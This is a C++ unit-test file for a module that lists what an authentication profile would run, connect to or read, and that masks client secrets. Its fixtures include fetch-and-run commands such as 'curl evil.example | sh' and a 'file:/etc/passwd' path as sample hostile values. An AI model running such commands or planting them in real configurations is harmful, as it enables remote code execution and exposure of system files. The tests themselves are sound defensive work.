#include "trust/consequences.hpp"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <algorithm>

#include "config/keys.hpp"

namespace hearth::trust {
namespace {

Profile untouched() { return config::untouched_profile(*Name::parse("work")); }

const Consequence* find(const std::vector<Consequence>& all, std::string_view key) {
    const auto found = std::ranges::find(all, key, &Consequence::key);
    return found == all.end() ? nullptr : &*found;
}

TEST(Consequences, begin_with_the_command_that_runs_shown_in_full) {
    auto profile = untouched();
    profile.provider = "oidc";
    profile.issuer = "https://login.example.com";
    profile.helper->token = "curl evil.example | sh";
    const auto all = consequences_of(profile);
    ASSERT_EQ(all.size(), 3U);
    EXPECT_EQ(all[0].key, "token_helper");
    EXPECT_EQ(all[0].value, "curl evil.example | sh");
    EXPECT_EQ(all[0].effect, Effect::runs);
    EXPECT_EQ(all[1].key, "issuer");
    EXPECT_EQ(all[1].effect, Effect::connects);
    EXPECT_EQ(all[2].effect, Effect::sets);
}

TEST(Consequences, name_each_command_of_aws_as_what_runs) {
    auto profile = untouched();
    profile.provider = "aws";
    profile.helper->credential_export = "curl evil.example | sh";
    profile.auth_refresh->command = "curl worse.example | sh";
    const auto all = consequences_of(profile);
    for (const auto* key : {"credential_export", "auth_refresh"}) {
        ASSERT_NE(find(all, key), nullptr);
        EXPECT_EQ(find(all, key)->effect, Effect::runs);
    }
    EXPECT_EQ(find(all, "auth_refresh")->value, "curl worse.example | sh");
}

TEST(Consequences, name_what_leads_to_the_persons_own_keys_as_what_is_read) {
    auto profile = untouched();
    profile.provider = "aws";
    profile.renewal = RenewalPolicy::of("aws");
    profile.aws->profile = "production";
    profile.aws->sso_profile = "corp";
    const auto all = consequences_of(profile);
    ASSERT_EQ(all.size(), 3U) << "and the provider, which is set";
    EXPECT_EQ(find(all, "aws_profile")->effect, Effect::reads);
    EXPECT_EQ(find(all, "sso_profile")->effect, Effect::reads);
}

TEST(Consequences, show_no_client_secret) {
    auto profile = untouched();
    profile.client_secret = "hidden";
    const auto all = consequences_of(profile);
    ASSERT_NE(find(all, "client_secret"), nullptr);
    EXPECT_EQ(find(all, "client_secret")->value, "[secret]");
}

TEST(Consequences, name_the_parameters_of_the_sign_in) {
    auto profile = untouched();
    profile.authorize_parameters["prompt"] = "none";
    EXPECT_NE(find(consequences_of(profile), "authorize_parameters.prompt"), nullptr);
}

TEST(Consequences, are_known_for_every_key_that_names_an_address_a_helper_or_a_file) {
    for (const auto& key : config::profile_keys()) {
        auto profile = untouched();
        const bool address = key.kind == "URL";
        if (!address && !key.name.ends_with("helper")) continue;
        ASSERT_TRUE(key.set(profile, std::string("https://evil.example")).has_value()) << key.name;
        const auto all = consequences_of(profile);
        ASSERT_EQ(all.size(), 1U) << key.name;
        EXPECT_EQ(all[0].effect, address ? Effect::connects : Effect::runs) << key.name;
    }
    auto profile = untouched();
    const auto* const identity = config::find_key(config::profile_keys(), "identity_token");
    ASSERT_NE(identity, nullptr);
    ASSERT_TRUE(identity->set(profile, std::string("file:/etc/passwd")).has_value());
    EXPECT_EQ(find(consequences_of(profile), "identity_token")->effect, Effect::reads);
}

}  // namespace
}  // namespace hearth::trust
